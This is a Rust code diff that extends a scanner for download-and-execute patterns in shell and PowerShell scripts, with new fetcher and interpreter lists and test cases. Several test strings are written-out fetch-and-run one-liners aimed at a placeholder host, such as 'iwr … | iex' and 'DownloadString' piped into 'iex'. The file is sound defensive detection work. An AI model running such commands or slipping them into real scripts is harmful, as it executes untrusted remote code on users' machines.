@@ -5,16 +5,40 @@
 pub(crate) type Pipeline = Vec<Vec<String>>;
 
 /// Programs that fetch from a network.
-const FETCHERS: &[&str] = &["aria2c", "curl", "fetch", "wget"];
+const FETCHERS: &[&str] = &[
+    "aria2c",
+    "curl",
+    "fetch",
+    "invoke-restmethod",
+    "invoke-webrequest",
+    "irm",
+    "iwr",
+    "wget",
+];
 /// Programs that run what they read.
 const INTERPRETERS: &[&str] = &[
-    "ash", "bash", "dash", "ksh", "node", "perl", "php", "pwsh", "python", "python2", "python3",
-    "ruby", "sh", "zsh",
+    "ash",
+    "bash",
+    "dash",
+    "iex",
+    "invoke-expression",
+    "ksh",
+    "node",
+    "perl",
+    "php",
+    "powershell",
+    "pwsh",
+    "python",
+    "python2",
+    "python3",
+    "ruby",
+    "sh",
+    "zsh",
 ];
 /// Words before a command that do not change what it is.
 const PREFIXES: &[&str] = &[
-    "!", "command", "do", "doas", "else", "env", "exec", "if", "nohup", "sudo", "then", "time",
-    "while", "{", "(",
+    "!", "command", "do", "doas", "else", "env", "exec", "export", "if", "nohup", "readonly",
+    "sudo", "then", "time", "while", "{", "(",
 ];
 
 /// The pipelines of a script.
@@ -107,12 +131,21 @@ pub(crate) fn program(command: &[String]) -> &str {
             if takes_argument(before, word) {
                 words.next();
             }
-        } else if !word
-            .split_once('=')
-            .is_some_and(|(name, _)| is_variable(name))
-        {
-            let word = word.trim_matches(['(', ')', '{', '}']);
-            return word.rsplit('/').next().unwrap_or(word);
+        } else {
+            let value = word
+                .split_once('=')
+                .filter(|(name, _)| is_variable(name))
+                .map(|(_, value)| value);
+            // `V=$(curl …` runs what its value begins with.
+            let run = match value {
+                Some(value) => value.strip_prefix("$(").or(value.strip_prefix('`')),
+                None => Some(word),
+            };
+            if let Some(word) = run.map(|word| word.trim_matches(['(', ')', '{', '}', '`']))
+                && !word.is_empty()
+            {
+                return word.rsplit('/').next().unwrap_or(word);
+            }
         }
     }
     ""
@@ -157,24 +190,37 @@ fn is_variable(name: &str) -> bool {
 pub(crate) fn runs_download(pipeline: &Pipeline) -> Option<String> {
     let mut fetched = None;
     for command in pipeline {
+        let inside = command.iter().filter_map(|word| substitution(word));
+        if let Some(found) = inside
+            .flat_map(pipelines)
+            .find_map(|pipeline| runs_download(&pipeline))
+        {
+            return Some(found);
+        }
         let program = program(command);
+        // PowerShell does not tell small letters from capital ones.
+        let program = program.strip_suffix(".exe").unwrap_or(program);
+        let program = &program.to_ascii_lowercase();
         if is_interpreter(program) {
             if let Some(found) =
-                given(command).and_then(|script| pipelines(script).iter().find_map(runs_download))
+                given(command).and_then(|script| pipelines(&script).iter().find_map(runs_download))
             {
                 return Some(found);
             }
             if let Some(fetcher) = fetched.filter(|_| !has_program(program, command)) {
                 return Some(format!("{fetcher} piped into {program}"));
             }
+            if let Some(fetcher) = substituted(command).or(downloaded(program, command)) {
+                return Some(format!("{program} runs what {fetcher} brings"));
+            }
+        } else if matches!(program.as_str(), "eval" | "source" | ".") {
             if let Some(fetcher) = substituted(command) {
                 return Some(format!("{program} runs what {fetcher} brings"));
             }
-        } else if matches!(program, "eval" | "source" | ".") {
-            if let Some(fetcher) = substituted(command) {
-                return Some(format!("{program} runs what {fetcher} brings"));
-            }
-        } else if let Some(fetcher) = FETCHERS.iter().find(|fetcher| **fetcher == program) {
+        } else if let Some(fetcher) = FETCHERS
+            .iter()
+            .find(|fetcher| **fetcher == program.as_str())
+        {
             fetched = Some(*fetcher);
         }
     }
@@ -192,14 +238,40 @@ fn has_program(program: &str, command: &[String]) -> bool {
     command.iter().any(|word| flags.contains(&word.as_str()))
 }
 
-/// The script that a shell is given in an argument: `bash -c '…'`, `sh -euc '…'`.
-fn given(command: &[String]) -> Option<&str> {
+/// The commands whose output stands in a word: `"$(curl …)"`.
+fn substitution(word: &str) -> Option<&str> {
+    let (_, inside) = word.split_once("$(")?;
+    inside.rsplit_once(')').map(|(inside, _)| inside)
+}
+
+/// What PowerShell fetches in the expression that it is given: `iex (New-Object
+/// Net.WebClient).DownloadString('…')`, `iex (iwr …).Content`.
+fn downloaded(program: &str, command: &[String]) -> Option<&'static str> {
+    if !matches!(program, "iex" | "invoke-expression") {
+        return None;
+    }
+    let text = command.join(" ").to_ascii_lowercase();
+    if text.contains("downloadstring") {
+        return Some("DownloadString");
+    }
+    let mut words = text.split(|letter: char| !(letter.is_alphanumeric() || letter == '-'));
+    words.find_map(|word| FETCHERS.iter().copied().find(|fetcher| *fetcher == word))
+}
+
+/// The script that a shell is given in an argument: `bash -c '…'`, `sh -euc '…'`, `powershell -Command
+/// '…'`.
+fn given(command: &[String]) -> Option<String> {
+    let is_powershell = |word: &String| word.eq_ignore_ascii_case("-command");
+    if let Some(at) = command.iter().position(is_powershell) {
+        // PowerShell takes all that follows.
+        return Some(command[at + 1..].join(" "));
+    }
     let of_script = |word: &str| {
         word.strip_prefix('-')
             .is_some_and(|flags| !flags.starts_with('-') && flags.ends_with('c'))
     };
     let at = command.iter().position(|word| of_script(word))?;
-    command.get(at + 1).map(String::as_str)
+    command.get(at + 1).cloned()
 }
 
 fn is_interpreter(program: &str) -> bool {
@@ -249,6 +321,17 @@ mod tests {
             "(curl x | bash)",
             "curl x | sudo -u app bash",
             "curl x | sudo -E -u app -- bash -s",
+            "V=$(curl x | sh)",
+            "V=\"$(curl x | sh)\"",
+            "echo \"built $(wget -qO- x | bash -s)\"",
+            "export V=`curl x | sh`",
+            "V=`curl x | sh`",
+            "iwr -useb https://x.example/i.ps1 | iex",
+            "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression",
+            "powershell -NoProfile -Command \"irm https://x.example | iex\"",
+            "powershell.exe -Command iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))",
+            "iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
+            "IEX (iwr https://x.example -UseBasicParsing).Content",
         ] {
             assert!(found(script).is_some(), "{script}");
         }
@@ -266,6 +349,11 @@ mod tests {
             "curl -o i.sh x & bash other.sh",
             "bash -c 'echo fine'",
             "curl x | sudo -u bash tee log",
+            "V=$(curl -s x | jq -r .tag)",
+            "V=\"$(curl -s x)\" && echo $V | tee version",
+            "PATH=/opt/bin:$PATH sh build.sh",
+            "iwr https://x.example/a.zip -OutFile a.zip",
+            "iex -S mix",
         ] {
             assert_eq!(found(script), None, "{script}");
         }
